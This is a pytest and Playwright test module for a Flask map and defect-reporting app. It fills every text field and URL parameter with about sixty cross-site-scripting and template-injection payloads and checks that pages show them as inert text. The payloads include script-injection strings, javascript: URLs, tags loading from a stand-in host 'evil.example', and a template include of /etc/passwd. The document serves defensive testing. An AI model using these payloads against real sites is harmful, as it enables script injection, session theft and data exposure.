"""Hostile words in every text field, in every view of a real browser: shown, never obeyed (T11)."""

import uuid
from collections.abc import Callable, Iterator
from urllib.parse import quote, urlsplit

import pytest
from flask import Flask
from flask.testing import FlaskClient
from playwright.sync_api import Browser, Page, expect
from shapely import Point
from sqlalchemy.orm import Session

from geoapp.app import create_app, metadata
from geoapp.areas.rules import Level
from geoapp.assets.rules import Kind
from geoapp.config import Settings
from geoapp.db.migrating import migrate
from geoapp.db.session import make_engine
from geoapp.defects.rules import EventKind
from tests.browser import PHONE, Visitors, focus_map, is_painted, serve, settle, watch
from tests.conftest import NOW
from tests.factories import LAT, LON, Factory, area_shape, stored

pytest_plugins = ("tests.browser",)

PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus=alert(1) '",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>x</button></form>",
    "<!--<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}}",
    "${7*7}",
    "{% include '/etc/passwd' %}",
    "%(name)s %s {0.__class__}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<button form=report formaction=//evil.example>x</button>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<script type=importmap>{}</script>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "--><img src=x onerror=alert(1)><!--",
    "]]><img src=x onerror=alert(1)>",
    "';alert(1)//",
    '";alert(1)//',
    "`;alert(1)//",
    "</style><img src=x onerror=alert(1)>",
    "#{7*7} <%= 7*7 %> [[7*7]]",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\u200f<img src=x onerror=alert(1)>\u200e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
# What stands in the fields: some alone, the others several in one, for time's sake.
ALONE = (PAYLOADS[0], PAYLOADS[1], PAYLOADS[6], "{{7*7}}")
OTHERS = [payload for payload in PAYLOADS if payload not in ALONE]
TEXTS = (*ALONE, *(" ".join(OTHERS[start : start + 8]) for start in range(0, len(OTHERS), 8)))
POLYGLOTS = (
    "'\"></title></script><svg onload=alert(1)><img src=x onerror=alert(1)>{{7*7}}",
    "javascript:alert(1)//%(name)s %s {0.__class__} ${7*7}",
)
# Where words of an address may come back on the page; {} is the payload, as the address has it.
ECHOES = (
    "/?q={}",
    "/find?q={}",
    "/?layers={}",
    "/?at={}",
    "/?lang={}",
    "/?area={}",
    "/?district={}",
    "/at?lat={}&lon=5",
    "/at?lat=52&lon=5&radius_m={}",
    "/list?bbox={}&at=52,5",
    "/report?asset={}",
    "/report?q={}",
    "/report?lat=52&lon=5&description={}",
    "/report?lat=52&lon=5&category={}&key={}&city_number={}&city_reported_on={}",
    "/defects/22-222?secret={}&new={}&named={}",
    "/assets/{}",
    "/q/{}",
    "/defects/{}",
    "/areas/{}",
    "/platforms/{}",
    "/{}",
)
# Nothing in the page that a payload could have made.
INTRUDERS = """() => [...document.querySelectorAll(
  "img:not(.leaflet-tile), iframe, base, object, embed, meta[http-equiv], mtext, "
  + "script:not([src]):not([nonce]), style, form[action*=evil], link[href*=evil], "
  + "a[href^=javascript], a[href^=data]")].map((e) => e.outerHTML.slice(0, 80))
  .concat([...document.querySelectorAll("*")].flatMap((e) => e.getAttributeNames()
    .filter((name) => name.startsWith("on") || name === "autofocus")
    .map((name) => `${e.tagName} ${name}`)))"""


@pytest.fixture(scope="module")
def service(make_database: Callable[[str], str]) -> Iterator[tuple[Flask, dict[str, list[str]]]]:
    """A service whose every text is a payload, and the pages of each payload."""
    engine = make_engine(make_database("hostile"))
    migrate(engine, metadata())
    with Session(engine, expire_on_commit=False) as session, session.begin():
        pages = _fill(Factory(session))
    settings = Settings(background_url="", secret="for-tests-" * 5)
    yield create_app(settings, engine=engine, clock=lambda: NOW), pages
    engine.dispose()


@pytest.fixture(scope="module")
def hostile(
    service: tuple[Flask, dict[str, list[str]]],
) -> Iterator[tuple[str, dict[str, list[str]]]]:
    """The origin of that service, and the pages of each payload."""
    with serve(service[0]) as origin:
        yield origin, service[1]


@pytest.fixture
def reporter(service: tuple[Flask, dict[str, list[str]]]) -> FlaskClient:
    """Whoever sends reports to it without a browser."""
    return service[0].test_client()


@pytest.fixture
def victims(browser: Browser, hostile: tuple[str, dict[str, list[str]]]) -> Iterator[Visitors]:
    """Visitors of the hostile service."""
    yield from watch(browser, hostile[0])


def test_every_page_shows_hostile_words_as_words(
    victims: Visitors, hostile: tuple[str, dict[str, list[str]]]
) -> None:
    page = victims.enter(width=PHONE)
    for payload, paths in hostile[1].items():
        for path in paths:
            page.goto(path)
            assert _says(page, payload), (payload, path)
            assert page.evaluate(INTRUDERS) == [], path


def test_home_and_its_list_show_hostile_words_as_words(victims: Visitors) -> None:
    page = victims.open("/?layers=all,neighbourhoods,platforms&at=52.00000,5.00600,15")
    focus_map(page)
    page.keyboard.press("Enter")
    expect(page.locator("#near-h")).to_have_text("Wat is hier")
    assert page.evaluate(INTRUDERS) == []
    page.get_by_role("link", name="Terug naar de lijst").click()
    settle(page)
    shown = page.locator("#near").inner_text()
    # As many as the list is long.
    assert sum(payload in shown for payload in PAYLOADS) >= 20
    assert page.evaluate(INTRUDERS) == []


def test_the_map_paints_hostile_names_letter_by_letter(victims: Visitors) -> None:
    at = f"{LAT},{_lon(TEXTS.index('{{7*7}}')):.5f},18"
    page = victims.open(f"/?layers=cabinets,neighbourhoods,platforms&at={at}")
    assert is_painted(page, "{{7*7}}")
    assert page.evaluate(INTRUDERS) == []


def test_searching_hostile_words_finds_them_as_words(victims: Visitors) -> None:
    page = victims.enter()
    for payload in ALONE:
        page.goto("/")
        settle(page)
        page.get_by_role("searchbox").press_sequentially(payload)
        found = page.locator("#found a").filter(has_text=payload)
        expect(found.first, payload).to_be_visible()
        assert page.evaluate(INTRUDERS) == [], payload
        found.first.click()
        settle(page)
        assert page.evaluate(INTRUDERS) == [], payload


def test_hostile_words_in_an_address_come_back_as_words_or_not_at_all(victims: Visitors) -> None:
    victims.allow(words=r"Failed to load resource: the server responded with a status of 40[04]")
    page = victims.enter(width=PHONE)
    for words in POLYGLOTS:
        for echo in ECHOES:
            path = echo.replace("{}", quote(words, safe=""))
            answer = page.goto(path)
            assert answer is not None
            assert answer.status in (200, 400, 404), path
            assert page.evaluate(INTRUDERS) == [], path


def test_sixty_payloads_sent_as_reports_come_back_as_words_on_every_page_of_theirs(
    victims: Visitors, reporter: FlaskClient
) -> None:
    assert len(set(PAYLOADS)) == 60
    page = victims.enter(width=PHONE)
    for number, payload in enumerate(PAYLOADS):
        body = {"lat": LAT, "lon": LON, "category": "broken", "description": payload}
        told = {"city_number": payload[:60]}
        sender = {"REMOTE_ADDR": f"192.0.2.{number}"}
        answer = reporter.post("/api/v1/defects", json=body | told, environ_base=sender)
        assert answer.status_code == 201, payload
        secret = urlsplit(answer.get_json()["secret_url"])
        page.goto(f"{secret.path}?{secret.query}&new=1")
        assert _says(page, payload), payload
        assert page.evaluate(INTRUDERS) == [], payload
    page.goto("/mine")
    expect(page.locator("#mine a")).to_have_count(60)
    assert [payload for payload in PAYLOADS if not _says(page, payload)] == []
    assert page.evaluate(INTRUDERS) == []


@pytest.mark.parametrize("payload", [PAYLOADS[1], PAYLOADS[6], "{{7*7}}"])
def test_hostile_words_typed_into_the_form_stay_words_when_refused_and_when_stored(
    victims: Visitors, payload: str
) -> None:
    victims.allow(words="status of 400")
    page = victims.enter(width=PHONE)
    page.goto(f"/report?lat={LAT}&lon={LON}")
    page.locator(".pick label").first.click()
    page.locator("#description").fill(payload)
    page.locator("summary").first.click()
    page.locator("#city_number").fill(payload)
    page.locator("#city_reported_on").fill("2099-01-01")
    page.locator("#send").click()
    expect(page.locator("#wrong-city_reported_on")).not_to_be_empty()
    assert page.evaluate(INTRUDERS) == []
    page.locator("#city_reported_on").fill("2026-11-01")
    page.locator("#send").click()
    expect(page.locator("#receipt")).to_be_visible()
    assert _says(page, payload)
    assert page.evaluate(INTRUDERS) == []
    page.get_by_text("Een andere naam").click()
    page.locator("input[name=other]").fill(payload)
    page.get_by_role("button", name="Zo noemen wij het").click()
    expect(page.locator("#receipt")).to_contain_text("Dank u.")
    assert page.evaluate(INTRUDERS) == []


def _says(page: Page, payload: str) -> bool:
    """True where the payload stands on the page, letter by letter."""
    found: bool = page.evaluate(
        "(words) => document.body.textContent.replace(/\\s+/g, ' ').includes(words)", payload
    )
    return found


def _lon(number: int) -> float:
    return LON + number * 0.0005


def _fill(make: Factory) -> dict[str, list[str]]:
    """Rows with each payload in every text field; the paths of their pages, by payload."""
    first, second = PAYLOADS[0], PAYLOADS[1]
    district = make.district(
        name=first,
        full_name=second,
        search_example=PAYLOADS[6],
        attribution=PAYLOADS[2],
        emergency=[{"words": {"nl": first, "en": second}, "number": PAYLOADS[6]}],
    )
    make.organisation(
        district_id=district.id, name=first, about=second, how_to_reach=first, is_desk=True
    )
    return {text: _fill_with(make, district.id, number, text) for number, text in enumerate(TEXTS)}


def _fill_with(make: Factory, district_id: uuid.UUID, number: int, payload: str) -> list[str]:
    home = {"district_id": district_id}
    lon, kinds = _lon(number), list(Kind)
    square = stored(area_shape(lon - 0.0002, LAT - 0.0002, lon + 0.0002, LAT + 0.0002))
    organisation = make.organisation(**home, name=payload, about=payload, how_to_reach=payload)
    wijk = make.official_area(
        **home, name=payload, code=payload, level=Level.WIJK, tint=0, source=payload, geom=square
    )
    make.area_figure(area_id=wijk.id, source=payload)
    organic = make.organic_area(**home, name=payload, source=payload, geom=square)
    make.place_name(**home, name=payload, geom=stored(Point(lon, LAT)))
    platform = make.platform(**home, name=payload, about=payload, meets=payload)
    make.platform_area(platform_id=platform.id, **home, geom=square)
    asset = make.asset(
        **home,
        name=payload,
        kind=kinds[number % len(kinds)],
        owner_id=organisation.id,
        details={"material": payload, "description": payload},
        source=payload,
        licence=payload,
        geom=stored(Point(lon, LAT)),
    )
    make.asset_event(asset_id=asset.id, note=payload)
    make.duty(asset_id=asset.id, organisation_id=organisation.id)
    agreement = make.agreement(**home, title=payload)
    make.agreement_party(
        agreement_id=agreement.id, organisation_id=organisation.id, undertakes=payload
    )
    make.agreement_asset(agreement_id=agreement.id, asset_id=asset.id)
    line = make.budget_line(**home, name=payload, earmark=payload, payer_id=organisation.id)
    make.funding(asset_id=asset.id, line_id=line.id)
    defect = make.defect(
        **home,
        description=payload,
        city_number=payload[:60],
        asset_id=asset.id,
        addressee_id=organisation.id,
        geom=stored(Point(lon, LAT)),
    )
    for kind in (EventKind.REPORTED, EventKind.ASKED, EventKind.PASSED_ON):
        make.defect_event(
            defect_id=defect.id, kind=kind, organisation_id=organisation.id, note=payload
        )
    return [
        f"/assets/{asset.code}",
        f"/q/{asset.code}",
        f"/report?asset={asset.code}",
        f"/defects/{defect.code}",
        f"/areas/{organic.slug}",
        f"/areas/{wijk.slug}",
        f"/platforms/{platform.slug}",
        f"/areas/{organic.slug}/map",
        f"/platforms/{platform.slug}/map",
        f"/at?lat={LAT}&lon={lon}",
    ]
